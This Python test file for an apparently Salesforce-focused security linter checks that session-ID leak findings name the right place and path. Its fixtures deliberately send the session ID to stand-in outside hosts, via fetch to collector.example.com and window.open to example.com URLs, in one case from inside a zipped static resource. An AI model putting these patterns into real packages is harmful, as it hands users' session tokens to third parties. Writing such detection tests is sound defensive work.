"""What a SID008 message says hands the session to client code: the annotation as Apex code
writes it (fixtures check where findings are; this checks what they say)."""

from __future__ import annotations

from pathlib import Path

from apexlint.engine import ScanOptions, scan

REPO = Path(__file__).resolve().parents[1]


def test_client_annotations_are_named_as_written() -> None:
    root = REPO / "fixtures" / "vulnerable-sfdx"
    messages = [f.message for f in scan(ScanOptions(paths=(root,), root=REPO, jobs=1)).findings
                if f.rule_id == "SID008"]
    assert any(m.endswith("ClientApi.sessionForLwc (@AuraEnabled)") for m in messages)
    assert any(m.endswith("ClientApi.context (@RemoteAction)") for m in messages)
    assert not any("@auraenabled" in m or "@remoteaction" in m for m in messages)


def test_an_unused_session_says_where_it_is_filled_in() -> None:
    """SID011's text names the page, the email, the formula or the metadata element: a formula
    field is not 'rendered into the page' (K-10)."""
    from apexlint.checks.session_id_unresolved_use import _merged_where
    assert _merged_where("force-app/main/default/pages/P.page", "script") == "is rendered into the page"
    assert _merged_where("email/T/W.email", "") == "is rendered into the email"
    assert _merged_where("objects/Contact/fields/S__c.field-meta.xml", "CustomField/formula") == \
        "is the value of a formula (every reader of the field gets it)"
    assert _merged_where("workflows/O.workflow-meta.xml", "Workflow/fieldUpdates/formula") == \
        "is computed by a workflow field update's formula"
    assert _merged_where("weblinks/W.weblink", "WebLink/url") == "is filled into WebLink/url"


_HANDING_CLASS = b"""public with sharing class Ctl {
    @AuraEnabled public static String getSid() { return UserInfo.getSessionId(); }
    @AuraEnabled public static String getBase() { return 'https://p.example.com/'; }
    @AuraEnabled public static String getDocs() { return '/apex/Docs?sid=' + UserInfo.getSessionId(); }
}
"""
_HANDED_LWC = b"""import { LightningElement } from 'lwc';
import getSid from '@salesforce/apex/Ctl.getSid';
import getBase from '@salesforce/apex/Ctl.getBase';
import getDocs from '@salesforce/apex/Ctl.getDocs';
export default class Opener extends LightningElement {
    async go() {
        const base = await getBase();
        const sid = await getSid();
        window.open(base + 'open?sid=' + sid);
        window.open('https://q.example.com/?s=' + encodeURIComponent(sid) + '&t=' + sid.trim());
        window.open(await getDocs());
    }
}
"""


def test_a_session_apex_hands_to_a_script_reads_as_one_in_its_url(tmp_path: Path) -> None:
    """W-12: the URL a SID006 message shows writes a session Apex returned as `<session ID>`, as
    Apex messages do, a URL Apex built with it as that URL (the org's own page: no SID002), and
    a URL that starts with another value Apex returned (a base URL) as the URL that value makes it,
    then as the script writes it, the value not known there, `{…}`."""
    from tests.fuzz.inputs import SFDX_SOURCE, write_sfdx_package
    root = write_sfdx_package(tmp_path / "pkg", {
        f"{SFDX_SOURCE}/classes/Ctl.cls": _HANDING_CLASS,
        f"{SFDX_SOURCE}/lwc/opener/opener.js": _HANDED_LWC,
        f"{SFDX_SOURCE}/lwc/opener/opener.js-meta.xml": b'<?xml version="1.0"?><LightningComponentBundle/>',
    })
    findings = scan(ScanOptions(paths=(root,), root=tmp_path, jobs=1)).findings
    assert sorted(f.message.partition(" is put into the URL ")[2] for f in findings if f.rule_id == "SID006") == [
        "/apex/Docs?sid=<session ID> (window.open)",
        "https://p.example.com/open?sid=<session ID> ({…}open?sid=<session ID>, window.open)",
        "https://q.example.com/?s=<session ID>&t=<session ID> (window.open)",
    ]
    assert sorted(f.location.span.start_line for f in findings if f.rule_id == "SID002") == [9, 10]


def test_a_session_the_package_s_scripts_send_only_to_the_org_says_so() -> None:
    """SID008 stands for a session handed to client code, and where the package's scripts send it
    only to this org, in a header, the message says so and where (the reviewer's first question);
    where a script also sends it elsewhere (SID002 there) or puts it in a URL (SID006), it does not."""
    root = REPO / "fixtures" / "visualforce-sfdx"
    messages = {f.message.partition(" at ")[2].partition(" ")[0]: f.message
                for f in scan(ScanOptions(paths=(root,), root=REPO, jobs=1)).findings if f.rule_id == "SID008"}
    assert messages["OrgQueryController.cls:6"].endswith(
        "returned to client code from OrgQueryController.getSid (@AuraEnabled); the package's scripts send it "
        "only to this org (orgQuery.js:10, orgQuery.js:12)")
    for elsewhere in ("ApiBaseController.cls:6", "LaunchUrlController.cls:6", "LinkTokenController.cls:7"):
        assert "only to this org" not in messages[elsewhere]


def test_a_session_also_kept_in_the_browser_is_not_said_to_go_only_to_the_org(tmp_path: Path) -> None:
    """Requests to this org only, but the script also keeps the session in `sessionStorage`
    (SID003 there): the SID008 message does not say the session only goes to this org."""
    from tests.fuzz.inputs import SFDX_SOURCE, write_sfdx_package
    lwc = b"""import getSid from '@salesforce/apex/Ctl.getSid';
export default class Keeper {
    async go() {
        const sid = await getSid();
        await fetch('/services/data/v60.0/limits', { headers: { Authorization: 'Bearer ' + sid } });
        sessionStorage.setItem('sid', sid);
    }
}
"""
    root = write_sfdx_package(tmp_path / "pkg", {
        f"{SFDX_SOURCE}/classes/Ctl.cls": _HANDING_CLASS,
        f"{SFDX_SOURCE}/lwc/keeper/keeper.js": lwc,
        f"{SFDX_SOURCE}/lwc/keeper/keeper.js-meta.xml": b'<?xml version="1.0"?><LightningComponentBundle/>',
    })
    findings = scan(ScanOptions(paths=(root,), root=tmp_path, jobs=1)).findings
    assert [f.rule_id for f in findings if f.location.path.endswith("keeper.js")] == ["SID003"]
    (handed,) = [f.message for f in findings if f.rule_id == "SID008" and "Ctl.getSid" in f.message]
    assert "only to this org" not in handed


def test_a_session_a_page_keeps_in_a_global_is_followed_into_the_zipped_script_it_loads(tmp_path: Path) -> None:
    """AF-4: a page's `var token = '{!$Api.Session_ID}'`, read by `js/main.js` in the zipped static
    resource the page loads with URLFOR: the script's request is that session's use, and says how
    the script got it. A page that keeps a session in the same global without loading the script
    gives it nothing."""
    import io
    import json
    import zipfile

    root = tmp_path / "pkg"
    default = root / "force-app" / "main" / "default"
    (default / "pages").mkdir(parents=True)
    (default / "staticresources").mkdir()
    (root / "sfdx-project.json").write_text(json.dumps({"packageDirectories": [{"path": "force-app"}]}))
    meta = '<?xml version="1.0" encoding="UTF-8"?><ApexPage xmlns="http://soap.sforce.com/2006/04/metadata">' \
           "<apiVersion>59.0</apiVersion><label>{0}</label></ApexPage>"
    (default / "pages" / "Host.page").write_text(
        "<apex:page>\n<apex:includeScript value=\"{!URLFOR($Resource.app, 'js/main.js')}\"/>\n"
        "<script>var token = '{!$Api.Session_ID}';</script>\n</apex:page>\n")
    (default / "pages" / "Host.page-meta.xml").write_text(meta.format("Host"))
    (default / "pages" / "Other.page").write_text("<apex:page>\n<script>var token = '{!$Api.Session_ID}';</script>\n"
                                                  "</apex:page>\n")
    (default / "pages" / "Other.page-meta.xml").write_text(meta.format("Other"))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("js/main.js", "function send() {\n    fetch('https://collector.example.com/c', "
                                 "{headers: {Authorization: 'Bearer ' + token}});\n}\n")
    (default / "staticresources" / "app.resource").write_bytes(archive.getvalue())
    (default / "staticresources" / "app.resource-meta.xml").write_text(
        '<?xml version="1.0" encoding="UTF-8"?><StaticResource xmlns="http://soap.sforce.com/2006/04/metadata">'
        "<cacheControl>Private</cacheControl><contentType>application/zip</contentType></StaticResource>")

    findings = scan(ScanOptions(paths=(root,), root=root, jobs=1)).findings

    exported = [f for f in findings if f.rule_id == "SID002"]
    # a file inside a zip is reported at the archive, which SARIF viewers can open
    assert [f.location.path for f in exported] == ["force-app/main/default/staticresources/app.resource"]
    assert exported[0].message.endswith("(in js/main.js, line 2)")
    assert exported[0].source is not None and exported[0].source.path.endswith("Host.page")
    assert "kept by Host.page in its global 'token'" in exported[0].message
    assert "collector.example.com" in exported[0].message
    other = [f for f in findings if f.location.path.endswith("Other.page")]
    assert [f.rule_id for f in other] == ["SID011"]


def test_a_session_passed_to_a_component_module_is_followed_through_the_modules_it_relays_to(
        tmp_path: Path) -> None:
    """A component hands what Apex returned to `c/relay`'s `forward`, which hands it to `c/sink`'s
    `post`: the request there is the session's use, and says the way it came."""
    root = tmp_path / "pkg"
    default = root / "force-app" / "main" / "default"
    files = {
        "classes/Ctl.cls": "public with sharing class Ctl {\n    @AuraEnabled\n"
                           "    public static String getSid() { return UserInfo.getSessionId(); }\n}\n",
        "lwc/caller/caller.js": "import { LightningElement } from 'lwc';\n"
                                "import getSid from '@salesforce/apex/Ctl.getSid';\n"
                                "import { forward } from 'c/relay';\n"
                                "export default class Caller extends LightningElement {\n"
                                "    async connectedCallback() { forward(await getSid()); }\n}\n",
        "lwc/relay/relay.js": "import { post } from 'c/sink';\n"
                              "export function forward(token) {\n"
                              "    console.log('forwarding'); return post('v1', token);\n}\n",
        "lwc/sink/sink.js": "export function post(path, token) {\n"
                            "    return fetch('https://collector.example.com/' + path,\n"
                            "                 {headers: {'X-Sid': token}});\n}\n",
    }
    for rel, text in files.items():
        (default / rel).parent.mkdir(parents=True, exist_ok=True)
        (default / rel).write_text(text)
    (root / "sfdx-project.json").write_text('{"packageDirectories": [{"path": "force-app"}]}')

    findings = scan(ScanOptions(paths=(root,), root=root, jobs=1)).findings

    [exported] = [f for f in findings if f.rule_id == "SID002"]
    assert exported.location.path.endswith("lwc/sink/sink.js") and exported.location.span.start_line == 2
    assert "returned to client code by Ctl.getSid, passed to forward of c/relay by caller.js, passed to post " \
           "of c/sink by relay.js, is sent by fetch to collector.example.com" in exported.message, exported.message


def test_what_a_component_module_returns_says_how_it_came() -> None:
    """A session a module's exported function returns, sent by the component that calls it."""
    root = REPO / "fixtures" / "visualforce-sfdx"
    findings = scan(ScanOptions(paths=(root,), root=root, jobs=1)).findings
    sent = {f.location.span.start_line: f.message for f in findings
            if f.rule_id == "SID002" and f.location.path.endswith("lwc/returnSender/returnSender.js")}
    assert "returned to client code by ApiBaseController.getSid, returned by bearer of c/sessionSource, is sent " \
           "by fetch to collector.example.com" in sent[12], sent
    assert "returned by the default export of c/sessionSource, is sent by fetch" in sent[14], sent


def test_a_session_an_aura_helper_keeps_in_an_attribute_says_where_it_was_kept(tmp_path: Path) -> None:
    """The helper's callback sets `v.details` to what an action returns; the controller's action
    a button runs reads it back and opens another site with it: the message names the Apex
    member, then the helper and the attribute, as the session went."""
    from tests.fuzz.inputs import SFDX_SOURCE, write_sfdx_package
    bundle = f"{SFDX_SOURCE}/aura/viewer/"
    root = write_sfdx_package(tmp_path / "pkg", {
        f"{SFDX_SOURCE}/classes/Ctl.cls": _HANDING_CLASS,
        bundle + "viewer.cmp": b'<aura:component controller="Ctl"><aura:attribute name="details" type="Object"/>'
                               b"</aura:component>",
        bundle + "viewerHelper.js": b"({ load: function (cmp) { var a = cmp.get('c.getSid'); a.setCallback(this, "
                                    b"function (r) { cmp.set('v.details', {sid: r.getReturnValue(), "
                                    b"home: 'https://v.example.com/'}); }); $A.enqueueAction(a); } })",
        bundle + "viewerController.js": b"({ init: function (cmp, e, helper) { helper.load(cmp); },\n"
                                        b"  open: function (cmp) { var d = cmp.get('v.details');\n"
                                        b"    window.open('https://v.example.com/doc?sid=' + d.sid); } })",
    })
    findings = scan(ScanOptions(paths=(root,), root=tmp_path, jobs=1)).findings
    (exported,) = [f for f in findings if f.rule_id == "SID002"]
    assert exported.location.path.endswith("viewerController.js") and exported.location.span.start_line == 3
    assert "returned to client code by Ctl.getSid, kept by viewerHelper.js in attribute v.details, is sent by " \
           "window.open to v.example.com" in exported.message


def test_a_session_a_page_saves_with_remote_objects_is_read_back_under_either_spelling(tmp_path: Path) -> None:
    """The page names the object and field with the package's namespace, the Apex reading them
    back without (and the other way round): one field either way. A field the page saves no
    session in is not one."""
    from tests.fuzz.inputs import SFDX_SOURCE, write_sfdx_package
    page = b"""<apex:page>
<apex:remoteObjects><apex:remoteObjectModel name="acme__Vault__c" fields="Id,acme__Token__c"/></apex:remoteObjects>
<apex:remoteObjects jsNamespace="Plain">
<apex:remoteObjectModel name="Store__c" fields="Id,Sid__c"/></apex:remoteObjects>
<script>
new SObjectModel.acme__Vault__c({ acme__Token__c: '{!$Api.Session_ID}', acme__Note__c: 'x' }).create();
new Plain.Store__c({ Sid__c: '{!$Api.Session_ID}' }).create();
</script>
</apex:page>
"""
    reader = b"""public with sharing class Reader {
    @AuraEnabled public static String token() { return [SELECT Token__c FROM Vault__c LIMIT 1].Token__c; }
    @AuraEnabled public static String note() { return [SELECT Note__c FROM Vault__c LIMIT 1].Note__c; }
    @AuraEnabled public static String sid() { return [SELECT acme__Sid__c FROM acme__Store__c LIMIT 1].acme__Sid__c; }
}
"""
    root = write_sfdx_package(tmp_path / "pkg", {
        f"{SFDX_SOURCE}/pages/Saver.page": page,
        f"{SFDX_SOURCE}/pages/Saver.page-meta.xml": b'<?xml version="1.0"?><ApexPage><apiVersion>59.0</apiVersion>'
                                                     b"<label>Saver</label></ApexPage>",
        f"{SFDX_SOURCE}/classes/Reader.cls": reader,
    }, namespace="acme")
    findings = scan(ScanOptions(paths=(root,), root=tmp_path, jobs=1)).findings
    assert sorted((f.rule_id, f.location.span.start_line) for f in findings if f.location.path.endswith("Reader.cls")) \
        == [("SID008", 2), ("SID008", 4)]
    assert sorted((f.rule_id, f.location.span.start_line) for f in findings if f.location.path.endswith(".page")) \
        == [("SID003", 6), ("SID003", 7)]
